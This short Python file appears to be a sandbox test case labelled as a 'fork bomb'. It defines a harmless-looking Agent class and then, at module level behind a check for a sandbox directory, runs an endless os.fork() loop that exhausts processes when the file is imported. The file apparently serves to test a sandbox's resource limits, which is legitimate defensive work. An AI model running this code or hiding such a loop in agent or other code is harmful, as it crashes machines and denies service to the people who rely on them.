"""row 30 | C:processes | fork bomb"""

import contextlib
import os
import time

import numpy as np


class Agent:
    def get_action(self, obs):
        return np.zeros((len(obs), 1), np.float32)


assert os.path.isdir("/autorl/run"), "only inside the sandbox"
while True:
    with contextlib.suppress(OSError):
        if os.fork() == 0:
            time.sleep(0.01)
